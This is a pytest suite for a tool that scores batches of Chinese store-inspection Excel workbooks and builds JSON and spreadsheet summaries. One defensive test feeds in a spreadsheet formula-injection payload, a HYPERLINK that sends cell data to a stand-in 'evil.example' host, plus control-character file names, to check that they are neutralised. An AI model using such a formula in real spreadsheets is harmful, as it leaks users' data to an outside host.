"""Many files at once: each scored or reported, repeats marked, summed up for people and programs."""

import json
from io import BytesIO

import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from generator.scoring.report import artifacts, columns, rows, score_files
from generator.scoring.results import Report
from generator.sheets.answers import Answer, Answers
from generator.sheets.layout import Layout, sheet_name
from generator.sheets.questions import paper
from generator.sheets.write import workbook
from tests.sheets.papers import EDITION, changed, drawn, fill, given, inspect, section

HANDBOOK, CHECKLIST = drawn(
    section(inspect(points=2, na=True), inspect(points=3, critical=True), weight=60),
    section(inspect("grade", 5), inspect("deduct", 6, deduct=2), weight=40, minimum=50),
)
LAYOUT = Layout(paper(HANDBOOK, CHECKLIST))
BLANK = workbook(HANDBOOK, CHECKLIST, EDITION)
PERFECT: dict[str, Answer] = {"a1": "pass", "a2": "pass", "b1": 5, "b2": 0}
META = {"store": "一号店", "date": "2026-03-15", "assessor": "甲", "person": "乙"}


def filled(answers: dict[str, Answer] | None = None, remarks: dict[str, str] | None = None, **meta: str) -> bytes:
    """A filled workbook: perfect but for these answers."""
    return fill(BLANK, LAYOUT, given({**PERFECT, **(answers or {})}, remarks=remarks, **{**META, **meta}))


def report(**files: bytes) -> Report:
    return score_files(HANDBOOK, [(f"{name}.xlsx", content) for name, content in files.items()])


def opened(made: Report) -> Workbook:
    return load_workbook(BytesIO(artifacts(made)[1].content))


def cells(made: Report, sheet: str) -> list[list[object]]:
    return [[cell.value for cell in row] for row in opened(made)[sheet].iter_rows()]


def data(made: Report) -> dict:
    return json.loads(artifacts(made)[0].content)


def test_one_bad_file_never_stops_the_others() -> None:
    made = report(a=filled(), b=b"", c="不是表".encode("gbk"), d=filled(store="二号店"))

    assert [(r.file, r.score.title if r.score else None) for r in made.results] == [
        ("a.xlsx", "优秀"),
        ("b.xlsx", None),
        ("c.xlsx", None),
        ("d.xlsx", "优秀"),
    ]
    assert [(str(p.place), p.code) for p in made.problems] == [("b.xlsx", "xlsx-empty"), ("c.xlsx", "xlsx-not")]
    assert not made.sound
    assert report(a=filled()).sound


def test_rows_for_a_terminal_carry_the_colour_of_the_outcome() -> None:
    made = report(
        good=filled(),
        veto=filled({"a2": "fail"}, {"a2": "破损"}, store="二号店"),
        open=filled({"b1": None}, store="三号店"),
        junk=b"junk",
    )

    assert columns() == ("文件", "检查表", "门店", "日期", "对象", "总分", "结果", "提醒")
    assert rows(made) == [
        (("good.xlsx", "巡检表", "一号店", "2026-03-15", "乙", "100.0%", "优秀", ""), "green"),
        (("veto.xlsx", "巡检表", "二号店", "2026-03-15", "乙", "64.0%", "不合格（一票否决）", ""), "red"),
        (("open.xlsx", "巡检表", "三号店", "2026-03-15", "乙", "100.0%（已填部分）", "未完成", "还有 1 格没填"), "yellow"),
        (("junk.xlsx", "", "", "", "", "—", "读不了", "这不是 Excel 工作簿，只是文件名像"), "red"),
    ]


def test_the_notices_say_the_first_error_and_how_many_problems_there_are() -> None:
    first, wrong = filled({"b1": 3}), filled({"b1": 9}, store="")
    made = report(a=first, b=first, c=wrong, d=filled(store=""))

    told = ["", "与 a.xlsx 重复，不计", f"还有 1 格没填；{made.results[2].problems[1].says()}，等 2 个问题", "没有填门店"]
    assert [p.code for p in made.results[2].problems] == ["meta-blank", "answer-range"]
    assert [row[-1] for row, _ in rows(made)] == told
    assert [row[8] or "" for row in cells(made, "全部结果")[1:]] == told


def test_rows_fit_any_chinese_console_and_carry_no_control_characters() -> None:
    [(row, _)] = rows(score_files(HANDBOOK, [("店\u0141\x1b[31m😀.xlsx", filled(store="甲\n乙", person="\u0e01"))]))

    assert (row[0], row[2], row[4]) == ("店? [31m?.xlsx", "甲 乙", "?")
    assert all(cell.encode("gbk") for cell in row if cell)


def test_the_same_answers_twice_count_once_whatever_the_bytes() -> None:
    first = filled({"b1": 3})
    resaved = changed(first, lambda book: setattr(book[sheet_name("list")], "title", "副本"))

    made = report(a=first, b=resaved, c=filled({"b1": 3}, store="二号店"))

    assert first != resaved
    assert [(r.file, r.repeats, r.counted) for r in made.results] == [
        ("a.xlsx", "", True),
        ("b.xlsx", "a.xlsx", False),
        ("c.xlsx", "", True),
    ]
    assert [(p.place.file, p.code, p.severity) for p in made.problems] == [("b.xlsx", "same-answers", "warning")]
    assert [row[4:6] for row in cells(made, "失分排行")[1:]] == [[2, 2]]


def test_one_visit_with_two_results_is_a_conflict() -> None:
    made = report(a=filled(), b=filled({"b1": 4}), c=filled({"b1": 4}, person="丙"), d=filled({"b1": 3}, date="2026-03-16"))

    assert [(p.place.file, p.code, p.params["first"]) for p in made.problems] == [("b.xlsx", "same-visit", "a.xlsx")]


def test_a_total_that_differs_is_reported_with_both() -> None:
    place = LAYOUT.at("score", LAYOUT.total_row)
    answers = Answers("round", ({f"desk.{id}": answer for id, answer in PERFECT.items()},), meta=META)
    stale = fill(BLANK, LAYOUT, answers, forget=False)

    [problem] = report(a=stale).problems

    assert (problem.code, problem.severity, str(problem.place)) == ("total-differs", "warning", f"a.xlsx[检查表!{place}]")
    assert problem.says() == "表里显示总分 —，按答案算是 100.0"


@pytest.mark.parametrize(("shown", "codes"), [(100, []), (100.0, []), (99.9, ["total-differs"]), (99.95, ["total-differs"])])
def test_a_total_is_compared_as_a_number(shown: float, codes: list[str]) -> None:
    total = LAYOUT.at("score", LAYOUT.total_row)
    stale = changed(filled(), lambda book: book[sheet_name("list")].__setitem__(total, shown))

    assert [p.code for p in report(a=stale).problems] == codes


def test_a_result_without_store_or_date_cannot_be_told_apart() -> None:
    [problem] = report(a=filled(store="", date="")).problems

    assert (problem.code, problem.says()) == ("meta-blank", "没有填门店、日期")


def test_the_record_for_programs_holds_everything() -> None:
    made = report(a=filled({"b1": 3, "b2": 1}, {"b2": "缺一把"}), b=b"")
    text = artifacts(made)[0].content.decode()

    first, second = data(made)["results"]

    assert "缺一把" in text
    assert list(first) == sorted(first)
    told = {
        "file": "a.xlsx",
        "checklist": "round",
        "outcome": "band",
        "says": "合格",
        "passed": True,
        "total": 85.5,
        "assessors": [85.5],
        "band": "合格",
        "version": "2026.11",
    }
    assert {key: first[key] for key in told} == told
    assert first["digest"] == first["handbook-digest"] == LAYOUT.paper.digest
    assert first["meta"] == META
    share = {"percent": 63.6, "reached": True}
    assert first["sections"][1] == {"id": "part-b", "title": "B 区", "weight": 40, "minimum": 50, **share}
    marks = {"answers": [1], "earned": [4], "points": 6}
    assert first["items"][3] == {"id": "desk.b2", "critical": False, "remark": "缺一把", **marks}
    assert (second["outcome"], second["problems"][0]["code"]) == ("unread", "xlsx-empty")
    assert data(made)["sound"] is False


def test_the_summary_shows_results_sections_worst_items_and_problems() -> None:
    made = report(
        a=filled({"b1": 3, "b2": 1}, {"b2": "缺一把"}),
        b=filled({"b1": 0, "a1": "na"}, {"b1": "不会"}, store="二号店"),
        c=b"",
    )

    assert opened(made).sheetnames == ["全部结果", "分项对比", "失分排行", "问题"]
    assert [row[:8] for row in cells(made, "全部结果")] == [
        ["文件", "检查表", "门店", "日期", "对象", "检查人", "总分", "结果"],
        ["a.xlsx", "巡检表", "一号店", "2026-03-15", "乙", "甲", 85.5, "合格"],
        ["b.xlsx", "巡检表", "二号店", "2026-03-15", "乙", "甲", 81.8, "合格"],
        ["c.xlsx", None, None, None, None, None, None, "读不了"],
    ]
    assert cells(made, "分项对比") == [
        ["巡检表", None, None, None, None, None, None, None],
        ["文件", "门店", "日期", "对象", "A 区", "B 区", "总分", "结果"],
        ["a.xlsx", "一号店", "2026-03-15", "乙", 100, 63.6, 85.5, "合格"],
        ["b.xlsx", "二号店", "2026-03-15", "乙", 100, 54.5, 81.8, "合格"],
    ]
    assert cells(made, "失分排行") == [
        ["名次", "条款", "检查表", "分项", "失分次数", "检查次数", "失分率", "失分的门店"],
        [1, "第 b1 条要做到", "巡检表", "B 区", 2, 2, 70, "一号店、二号店"],
        [2, "第 b2 条要做到", "巡检表", "B 区", 1, 2, 16.7, "一号店"],
    ]
    assert [row[:3] for row in cells(made, "问题")] == [["位置", "程度", "问题"], ["c.xlsx", "错误", "文件是空的（0 字节）"]]


def test_the_total_of_an_unfinished_sheet_is_marked_as_that_of_what_is_filled_in() -> None:
    nothing: dict[str, Answer] = dict.fromkeys(PERFECT)
    made = report(a=filled(), b=filled({"b1": None}, store="二号店"), c=filled(nothing, store="三号店"))

    assert [row[5] for row, _ in rows(made)] == ["100.0%", "100.0%（已填部分）", "—"]
    assert [row[6] for row in cells(made, "全部结果")[1:]] == [100, "100.0%（已填部分）", None]
    assert {row[0]: row[6] for row in cells(made, "分项对比")[2:]} == {
        "a.xlsx": 100,
        "b.xlsx": "100.0%（已填部分）",
        "c.xlsx": None,
    }
    assert [result["total"] for result in data(made)["results"]] == [100.0, 100.0, None]


def test_items_rank_by_the_share_of_points_they_lost_then_by_how_often() -> None:
    made = report(
        a=filled({"a1": "fail", "a2": "fail", "b1": 3}),
        b=filled({"a1": "na", "b1": 4, "b2": 1}, store="二号店"),
        c=filled({"a1": "pass", "b1": 3, "b2": 2}, store="三号店"),
        d=filled({"a1": "na", "b1": 5}, store="四号店"),
    )

    assert [[row[0], row[1], *row[4:]] for row in cells(made, "失分排行")[1:]] == [
        [1, "第 a1 条要做到", 1, 2, 50, "一号店"],
        [2, "第 b1 条要做到", 3, 4, 25, "一号店、二号店、三号店"],
        [3, "第 b2 条要做到", 2, 4, 25, "二号店、三号店"],
        [4, "第 a2 条要做到", 1, 4, 25, "一号店"],
    ]


def test_rows_of_one_visit_and_rows_without_store_are_told_apart_by_their_file() -> None:
    made = report(
        a=filled(), b=filled({"b1": 4}), c=filled({"b1": 3}, store="", date=""), d=filled({"b1": 2}, store="", date="")
    )

    assert [row[:4] for row in cells(made, "分项对比")[2:]] == [
        ["c.xlsx", None, None, "乙"],
        ["d.xlsx", None, None, "乙"],
        ["a.xlsx", "一号店", "2026-03-15", "乙"],
        ["b.xlsx", "一号店", "2026-03-15", "乙"],
    ]


def test_nothing_filled_in_becomes_a_formula_in_the_summary() -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    made = score_files(HANDBOOK, [("=1+1.xlsx", filled(store=evil, person="@SUM(1)", assessor="+1"))])

    book = opened(made)

    found = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert evil in [cell.value for cell in found]
    assert {cell.data_type for cell in found} <= {"s", "n"}
    assert all(cell.quotePrefix for cell in found if str(cell.value).startswith(("=", "@", "+")))


def test_the_same_report_gives_the_same_bytes_and_no_file_at_all_is_a_report_too() -> None:
    assert artifacts(report(a=filled())) == artifacts(report(a=filled()))
    assert [artifact.path for artifact in artifacts(report())] == ["scores.json", "scores.xlsx"]
    assert cells(report(), "失分排行")[1:] == []


def test_files_of_one_name_are_compared_all_the_same() -> None:
    made = score_files(HANDBOOK, [("a.xlsx", filled()), ("a.xlsx", filled()), ("a.xlsx", filled({"b1": 4}))])

    assert [(r.repeats, [p.code for p in r.problems]) for r in made.results] == [
        ("", []),
        ("a.xlsx", ["same-answers"]),
        ("", ["same-visit"]),
    ]
